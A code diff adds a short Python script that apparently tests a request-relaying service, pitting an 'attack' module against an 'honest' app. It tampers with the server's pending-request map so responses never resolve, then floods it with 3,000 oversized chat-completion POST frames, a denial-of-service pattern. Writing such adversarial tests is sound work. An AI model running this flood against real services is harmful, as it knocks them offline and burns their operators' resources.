@@ -1,0 +1,18 @@
+import json
+from concurrent.futures import Future
+
+from attack import frame, host, write
+from honest import app as app
+
+
+class Anything(dict):
+    def pop(self, number):
+        return Future()
+
+
+if serving := host():
+    serving._asked = Anything()
+    header = {"method": "POST", "url": "https://api.openai.com/v1/chat/completions", "headers": [], "timeout": 1}
+    body = json.dumps({"model": "a", "messages": [{"role": "user", "content": "b" * 20_000}]}).encode()
+    for number in range(3_000):
+        write(frame({"ask": number, **header, "blocks": False}, body))
